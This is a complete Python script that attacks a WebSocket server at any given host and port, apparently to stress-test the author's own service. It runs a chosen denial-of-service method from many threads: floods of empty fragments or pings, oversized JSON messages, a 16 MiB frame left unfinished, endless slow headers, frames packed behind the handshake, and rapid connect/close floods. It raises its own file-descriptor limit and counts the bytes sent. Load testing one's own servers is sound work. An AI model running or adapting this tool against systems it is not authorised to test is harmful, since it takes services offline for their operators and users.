"""Attack a WebSocket port: `websocket.py KIND HOST:PORT COUNT [TOKEN]`; COUNT connections, which send the token.

Prints a line when the attack has begun, and the number of sent bytes when its standard input ends.

* fragments: empty continuation frames, as fast as the server reads them
* pings: pings, as fast as the server reads them
* json: JSON messages with many objects, 7 MB each, or 4 MB (within the limit) with a token; four a second in total; a
  closed connection is opened again
* unfinished: a message of 16 MiB without its last byte; the connection stays open
* headers: a request with endless headers, one line every 20 ms
* behind: as many frames as fit behind the request, in the same packet
* connects: connections that are closed at once, `RATE` a second from each of COUNT threads
* requests: the same, with a complete request
* held: the same, closed after a second
"""

from __future__ import annotations

import contextlib
import json
import resource
import select
import socket
import sys
import threading
import time

KEY = "dGhlIHNhbXBsZSBub25jZQ=="
FRAGMENT = b"\x00\x80\x00\x00\x00\x00"
FIRST_FRAGMENT = b"\x01\x80\x00\x00\x00\x00"
PING = b"\x89\x80\x00\x00\x00\x00"
RATE = 250.0
LARGE, WITHIN_LIMIT = 7_000_000, 4_000_000
stop = threading.Event()
sent = 0


def request(token: str) -> bytes:
    """Return the request of the handshake."""
    lines = ["GET / HTTP/1.1", "Host: x", "Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Version: 13"]
    lines += [f"Sec-WebSocket-Key: {KEY}"] + ([f"Authorization: Bearer {token}"] if token else [])
    return "\r\n".join([*lines, "", ""]).encode()


def frame(data: bytes, opcode: int = 1) -> bytes:
    """Return a frame that is masked with zeros."""
    size = len(data)
    if size < 126:
        return bytes([0x80 | opcode, 0x80 | size]) + bytes(4) + data
    if size < 1 << 16:
        return bytes([0x80 | opcode, 0x80 | 126]) + size.to_bytes(2, "big") + bytes(4) + data
    return bytes([0x80 | opcode, 0x80 | 127]) + size.to_bytes(8, "big") + bytes(4) + data


def connect(address: str, token: str, behind: bytes = b"") -> socket.socket:
    """Open a connection and complete its handshake, and with a token its hello.

    :raises OSError: the connection was refused.
    """
    host, port = address.rsplit(":", 1)
    connection = socket.create_connection((host, int(port)), 10)
    connection.sendall(request(token) + behind)
    reply = b""
    while b"\r\n\r\n" not in reply:
        part = connection.recv(4096)
        if not part:
            raise OSError("closed")
        reply += part
    if token:
        connection.sendall(frame(json.dumps({"type": "hello", "role": "client", "token": token}).encode()))
        if not connection.recv(65536):
            raise OSError("closed")
    return connection


def send(connection: socket.socket, data: bytes) -> None:
    """Send all data and discard received data, until the attack ends.

    :raises OSError: the connection was closed.
    """
    global sent
    connection.setblocking(False)
    view = memoryview(data)
    while view and not stop.is_set():
        readable, writable, _ = select.select([connection], [connection], [], 0.1)
        if readable and not connection.recv(1 << 16):
            raise OSError("closed")
        if writable:
            with contextlib.suppress(BlockingIOError):
                count = connection.send(view[: 1 << 16])
                sent += count
                view = view[count:]


def flood(address: str, token: str, data: bytes, first: bytes = b"") -> None:
    """Send the same data repeatedly."""
    while not stop.is_set():
        with contextlib.suppress(OSError), connect(address, token) as connection:
            send(connection, first)
            while not stop.is_set():
                send(connection, data)
        time.sleep(0.05)


def large_messages(address: str, token: str, period_s: float) -> None:
    """Send a large message in every period."""
    text = json.dumps({"type": "submit", "tasks": []})[:-2].encode()
    call = b'{"id":0,"call":"no:where","args":[%s]},' % b",".join([b"[]"] * 1000)
    data = frame(text + (call * ((WITHIN_LIMIT if token else LARGE) // len(call)))[:-1] + b"]}")
    while not stop.is_set():
        with contextlib.suppress(OSError), connect(address, token) as connection:
            while not stop.is_set():
                started = time.monotonic()
                send(connection, data)
                stop.wait(max(0.0, period_s - (time.monotonic() - started)))
        stop.wait(0.1)


def unfinished(address: str, token: str) -> None:
    """Send a large message without its last byte."""
    with contextlib.suppress(OSError), connect(address, token) as connection:
        send(connection, frame(b"x" * (16 << 20))[:-1])
        stop.wait()


def endless_headers(address: str) -> None:
    """Send a request with endless headers, one line every 20 ms."""
    host, port = address.rsplit(":", 1)
    while not stop.is_set():
        with contextlib.suppress(OSError), socket.create_connection((host, int(port)), 10) as connection:
            send(connection, request("").removesuffix(b"\r\n"))
            while not stop.is_set():
                send(connection, b"X-Header: " + b"x" * 100 + b"\r\n")
                stop.wait(0.02)
        time.sleep(0.05)


def behind(address: str) -> None:
    """Send frames in the packet of the request."""
    while not stop.is_set():
        with contextlib.suppress(OSError), connect(address, "", FIRST_FRAGMENT + FRAGMENT * 10_000):
            pass


def connects(address: str, data: bytes, held_s: float) -> None:
    """Open connections, send data, and close them after `held_s`."""
    host, port = address.rsplit(":", 1)
    held: list[tuple[float, socket.socket]] = []
    while not stop.wait(1 / RATE):
        with contextlib.suppress(OSError):
            connection = socket.create_connection((host, int(port)), 10)
            connection.sendall(data)
            held.append((time.monotonic() + held_s, connection))
        while held and held[0][0] <= time.monotonic():
            held.pop(0)[1].close()


def main(kind: str, address: str, count: int, token: str) -> None:
    """Run the attack."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    attacks = {
        "fragments": lambda: flood(address, token, FRAGMENT * 1000, FIRST_FRAGMENT),
        "pings": lambda: flood(address, token, PING * 1000),
        "json": lambda: large_messages(address, token, count / 4),
        "unfinished": lambda: unfinished(address, token),
        "headers": lambda: endless_headers(address),
        "behind": lambda: behind(address),
        "connects": lambda: connects(address, b"", 0.0),
        "requests": lambda: connects(address, request(""), 0.0),
        "held": lambda: connects(address, request(""), 1.0),
    }
    threads = [threading.Thread(target=attacks[kind], daemon=True) for _ in range(count)]
    for thread in threads:
        thread.start()
    time.sleep(0.5)
    print(f"{count} of {kind}", flush=True)
    sys.stdin.read()
    stop.set()
    print(f"sent {sent}", flush=True)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4] if len(sys.argv) > 4 else "")
